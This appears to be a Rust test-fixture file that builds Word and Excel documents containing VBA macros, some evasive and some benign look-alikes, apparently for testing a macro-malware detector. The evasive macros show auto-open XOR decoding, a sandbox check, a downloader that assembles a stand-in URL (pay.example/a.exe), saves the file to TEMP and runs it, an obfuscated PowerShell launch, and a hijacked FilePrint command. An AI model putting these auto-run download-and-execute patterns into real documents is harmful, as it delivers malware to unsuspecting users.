//! Macros whose texts only show when they are run, and honest ones that look alike. All of it is inert.

use super::Fixture;
use super::ooxml::Package;
use super::vba::{Module, vba_project};

/// A decoder with a key, in a branch that a sandbox would not take.
const XOR: &str = "Private Sub Document_Open()
If Application.UserName = \"sandbox\" Then Exit Sub
Dim w As Object
Set w = CreateObject(Clear(\"363202130811154F3209040D0D\", \"a\"))
CallByName w, StrReverse(\"nuR\"), VbMethod, Clear(Join(Array(\"020C\", \"0541\", \"4E02\", \"4119\"), \"\"), \"a\"), 0
End Sub
Private Function Clear(ByVal t As String, k As String) As String
Dim i As Long
For i = 1 To Len(t) Step 2
Clear = Clear & Chr(Val(\"&H\" & Mid$(t, i, 2)) Xor Asc(k))
Next i
End Function
";

/// Fetches, stores and starts, with every name put together by a procedure that fills what it is given.
const PIECES: &str = "Private Sub Workbook_Open()
Dim u As String, p As String, n, h As Object, s As Object
For Each n In Array(104, 116, 116, 112, 58, 47, 47)
Add u, n
Next
u = u & Split(\"x|pay.example|y\", \"|\")(1) & \"/a.exe\"
p = Environ(\"TEMP\") & \"\\a.exe\"
Set h = CreateObject(Replace(\"MSXML2.##XML##HTTP\", \"##\", \"\"))
h.Open \"GET\", u, False
h.send
Set s = CreateObject(\"ADODB.\" & StrReverse(\"maertS\"))
s.Type = 1
s.Open
s.Write h.responseBody
s.SaveToFile p, 2
CreateObject(\"Shell.Application\").ShellExecute p
End Sub
Sub Add(ByRef t As String, ByVal c)
t = t & Chr(c)
End Sub
";

/// A morning routine of an office: files, a database, a timer.
const ROUTINE: &str = "Private Sub Workbook_Open()
Dim fso As Object, f As Object, d As Object, r As Long, name As Variant
Set fso = CreateObject(\"Scripting.FileSystemObject\")
Set d = CreateObject(\"Scripting.Dictionary\")
For Each name In Array(\"東京\", \"大阪\")
d(name) = 0
Next
For r = 2 To Cells(Rows.Count, 1).End(xlUp).Row
d(Cells(r, 1).Value) = d(Cells(r, 1).Value) + Cells(r, 2).Value
Next r
Set f = fso.CreateTextFile(ThisWorkbook.Path & \"\\日報_\" & Format(Date, \"yyyymmdd\") & \".csv\", True)
For Each name In d.Keys
f.WriteLine name & \",\" & d(name)
Next
f.Close
Application.OnTime Now + TimeValue(\"01:00:00\"), \"ThisWorkbook.\" & \"Refresh\"
End Sub
Public Sub Refresh()
Dim c As Object, k As Variant
For Each k In Array(\"ADODB.Connection\", \"ADODB.Recordset\")
Set c = CreateObject(k)
Next
End Sub
";

/// A command out of a formula, a pattern, bytes and a script that is put together, in a handler that goes back.
const SCRIPT: &str = "Private Sub Workbook_Open()
Dim s As Object, r As Object, f, t As String
On Error GoTo again
t = Evaluate(\"SUBSTITUTE(\"\"p#wersh#ll\"\",\"\"#\"\",\"\"\"\")\")
x = 1 \\ 0
Set s = CreateObject(\"MSScriptControl.ScriptControl\")
s.Language = \"VBScript\"
s.AddCode \"Function Line(a)\" & vbLf & \"Line = a & StrReverse(\"\"olleh ohce c/ \"\")\" & vbLf & \"End Function\"
Shell s.Run(\"Line\", t), 0
Exit Sub
again:
Set r = CreateObject(\"VBScript.RegExp\")
r.Pattern = \"([a-z])(\\d)\"
r.Global = True
t = r.Replace(\"c1m2d3\", \"$1\") & StrConv(ChrB(46) & ChrB(101) & ChrB(120) & ChrB(101), vbUnicode)
Resume Next
End Sub
";

/// Parts of addresses, a rate and the week, as offices compute them.
const FORMULAS: &str = "Private Sub Workbook_Open()
Dim r As Object, m As Object, c As New Collection, n As Double
On Error GoTo missing
Set r = CreateObject(\"VBScript.RegExp\")
r.Pattern = \"(\\d{3})-(\\d{4})\"
For Each m In r.Execute(Range(\"A2\").Value)
c.Add m.SubMatches(0), m.Value
Next
n = Evaluate(\"SUM(B2:B9)\") / WorksheetFunction.CountA(Range(\"B2:B9\"))
Range(\"C1\").Value = Partition(n, 0, 100, 10) & Application.Trim(Range(\"A1\").Text)
ThisWorkbook.SaveCopyAs ThisWorkbook.Path & \"\\\" & Format(Date, \"yyyymm\") & \".xlsm\"
Exit Sub
missing:
MsgBox Err.Description
Resume Next
End Sub
";

/// Takes the place of a command of Word: what everybody presses starts it.
const COMMAND: &str = "Sub FilePrint()
Shell Environ(\"COMSPEC\") & \" /c echo hello\", 0
ActiveDocument.PrintOut
End Sub
";

/// A company's letter: printing brings its fields up to date.
const LETTER: &str = "Sub FilePrint()
ActiveDocument.Fields.Update
Dialogs(wdDialogFilePrint).Show
End Sub
";

pub(crate) fn fixtures() -> Vec<Fixture> {
    let word =
        |source: &str| Package::word(true).macros(&vba_project(&[Module::document("ThisDocument", source)])).build();
    let excel =
        |source: &str| Package::excel(true).macros(&vba_project(&[Module::document("ThisWorkbook", source)])).build();
    let letter = |source: &str| {
        let modules = [Module::document("ThisDocument", ""), Module::standard("NewMacros", source)];
        Package::word(true).macros(&vba_project(&modules)).build()
    };
    vec![
        Fixture::new("docm-takes-command", "letter.docm", letter(COMMAND)),
        Fixture::new("docm-command-honest", "letter.docm", letter(LETTER)).honest(),
        Fixture::new("docm-xor-decoder", "report.docm", word(XOR)),
        Fixture::new("xlsm-built-download", "invoice.xlsm", excel(PIECES)),
        Fixture::new("xlsm-script-and-formula", "invoice.xlsm", excel(SCRIPT)),
        Fixture::new("xlsm-patterns-and-sums", "nippo.xlsm", excel(FORMULAS)),
        Fixture::new("xlsm-morning-routine", "nippo.xlsm", excel(ROUTINE)),
    ]
}
